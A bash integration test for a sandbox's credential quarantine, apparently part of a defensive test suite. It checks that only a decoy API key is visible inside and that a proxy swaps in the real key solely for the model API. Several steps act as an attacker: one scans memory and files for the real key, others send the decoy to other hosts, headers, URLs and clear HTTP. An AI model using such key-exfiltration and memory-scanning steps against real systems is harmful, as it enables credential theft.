#!/bin/bash
# Credential quarantine, tried from inside as an attacker hunting for the model API's key: the
# sandbox holds only a decoy of its own (in its environment and a file in its home); the gate's
# proxy puts the real key into the Authorization of the agent's requests to the model API, and
# nowhere else. The key is never in the sandbox (every process's environment and command line,
# the step's own memory after the API answered, every file it can read), nor in the monitor's
# store, logs or exports on the host. The decoy sent anywhere else (another allowed host, another
# header, with anything around it, in clear HTTP) is refused and arrives nowhere. A key file
# others could read is refused at create.
. "$(dirname "$0")/../lib.sh"
fb_setup

world_up
detectors_record_only
start_daemon --config "$FB_CONF"

# The real key, root's alone, in a file the policy names.
credential_policy

# ---- A key file others may read is no secret: create refuses it, naming the credential.
chmod 0644 "$T/secrets/model-api"
if out=$("$FB" create cq --policy "$T/cred.json" 2>&1); then
	FB_SANDBOXES="$FB_SANDBOXES cq"
	fail "create accepted a world-readable key file"
fi
[[ $out == *"credential model_api"*"no one else may read"* ]] || fail "the refusal is not clear: $out"
[[ $out != *"$REAL"* ]] || fail "the refusal printed the key"
ok "a key file others may read is refused at create"
chmod 0600 "$T/secrets/model-api"

create_sandbox cq "$T/cred.json"
copy_in cq "$FB_ROOT/tests/attacks/http-try.py"
copy_in cq "$FB_ROOT/tests/attacks/memscan.py"
SB=$FIREBREAK_RUNTIME_DIR/sandboxes/cq
marker=$(state_field cq decoy_marker)

# try TOOL ARGS...: http-try.py as TOOL with @DECOY@ the sandbox's MODEL_API_KEY, its JSON line
try() {
	local tool=$1
	shift
	"$FB" exec cq --tool "$tool" -- python3 /workspace/http-try.py "$@" decoyvar=MODEL_API_KEY
}

# ---- Inside: the decoy, the sandbox's own, in the variable and the file the policy names.
decoy=$("$FB" exec cq --tool look -- printenv MODEL_API_KEY)
[[ $decoy == *"$marker"* ]] || fail "the decoy does not carry the sandbox's marker: $decoy"
[[ $decoy != *"$REAL"* ]] || fail "the sandbox's variable holds the real key"
file=$("$FB" exec cq --tool look -- cat /home/agent/.config/model/key)
assert_eq "$file" "$decoy" "the decoy file holds the same decoy"
ok "the sandbox holds a decoy of its own ($decoy)"

# ---- The agent's call arrives with the real key; what came back, its environment, its own
# memory and every file it can read hold none of it.
before=$(world_contacts api "Bearer $REAL")
scan=$("$FB" exec cq --tool agent -- python3 /workspace/memscan.py fbREAL- \
	call=https://api.model.test/v1/chat,MODEL_API_KEY / /dev/shm) || fail "the scan did not run"
assert_eq "$(json_field "$scan" status)" "200" "the agent's call to the model API: $scan"
want=$(printf 'Bearer %s' "$REAL" | sha256sum | cut -d' ' -f1)
[[ $(json_field "$scan" answer) == *"\"authorization_sha256\": \"$want\""* ]] ||
	fail "the API did not receive the real key: $scan"
assert_eq "$(world_contacts api "Bearer $REAL")" "$((before + 1))" "the world's API recorded the real key once"
assert_eq "$(world_contacts api "$decoy")" "0" "the decoy never reached the API"
assert_eq "$(json_field "$scan" found)" "[]" "the real key is nowhere inside"
python3 -c 'import json,sys; s=json.loads(sys.argv[1]); assert s["processes"] >= 1 and s["mappings"] > 10 and s["files"] > 20, s' "$scan" ||
	fail "the scan searched too little to mean anything: $scan"
wait_for 5 has_event cq http.request credential=model_api host=api.model.test ||
	fail "the swap is not an http.request noting the credential"
ok "the real key went to the API; inside, no process, memory or file holds it"

# ---- The decoy anywhere else: refused, and nothing arrives.
refused() {
	local out=$1 what=$2
	assert_eq "$(json_field "$out" status)" "403" "$what: $out"
	[[ $(json_field "$out" body) == *decoy* ]] || fail "$what: the refusal does not say decoy: $out"
}
before_front=$(world_contacts api '"host": "front.test"')
before_api=$(world_contacts api '"event":"request"')
refused "$(try agent POST https://front.test/v1/chat 'header=Authorization: Bearer @DECOY@')" \
	"the decoy to another allowed host"
refused "$(try agent POST https://api.model.test/v1/chat 'header=Cookie: k=@DECOY@')" \
	"the decoy in another header to the bound host"
refused "$(try agent POST https://api.model.test/v1/chat 'header=Authorization: Bearer @DECOY@x')" \
	"the decoy with more after it"
refused "$(try agent POST 'https://api.model.test/v1/chat?key=@DECOY@')" "the decoy in the URL"
refused "$(try install_deps GET http://registry.test/simple/ 'header=Authorization: Bearer @DECOY@')" \
	"the decoy in clear HTTP to the registry"
assert_eq "$(world_contacts api '"event":"request"')" "$before_api" "no decoy request reached the API"
assert_eq "$(world_contacts api '"host": "front.test"')" "$before_front" "nothing reached front.test"
assert_eq "$(world_contacts registry "$marker")" "0" "no decoy reached the registry"
wait_for 5 has_event cq verdict rule=exfil.decoy-http || fail "no exfil.decoy-http verdict"
ok "the decoy is swapped only whole, in Authorization, to the model API"

# ---- Host side: the key is only where it must be (its file, the proxy's credentials and its
# ICAP service's secrets, the world's own record of what the API received); not in the store, logs, events or exports.
cred=$SB/proxy/credentials.conf
k=$(state_field cq link)
assert_eq "$(stat -c '%a %u' "$cred")" "600 $((418000 + k))" "the real key is the proxy's alone to read"
grep -q "$REAL" "$cred" || fail "the proxy's credentials do not hold the key"
# The ICAP service's secrets (docs/egress.md, "Bodies"): the same uid's, to turn the key back
# into the decoy in the API's answers.
icap=$SB/proxy-icap/secrets
assert_eq "$(stat -c '%a %u' "$icap")" "600 $((418000 + k))" "the ICAP service's copy is the proxy's alone"
if grep -q "$REAL" "$SB/proxy/squid.conf"; then fail "squid.conf holds the real key"; fi
"$FB" timeline cq --json >"$T/timeline.json" || fail "timeline"
"$FB" export cq -o "$T/export.db" >/dev/null || fail "export"
found=$(grep -rl -- "$REAL" "$T" "$FIREBREAK_RUNTIME_DIR" 2>/dev/null |
	grep -vx -e "$T/secrets/model-api" -e "$cred" -e "$icap" -e "$WORLD/logs/api.log" || true)
[ -z "$found" ] || fail "the real key is on the host where it must not be: $found"
ok "the real key is in no event, log, export or state file on the host"

check "destroy" "$FB" destroy cq
# The destroy's own record is stored after anything the collector said before it (one writer).
wait_for 5 has_event cq sandbox.destroyed || fail "no sandbox.destroyed"
if has_event cq proxy.down; then fail "a destroy was taken for the proxy's end"; fi
assert_no_leftovers "after the credential quarantine tests"
stop_daemon
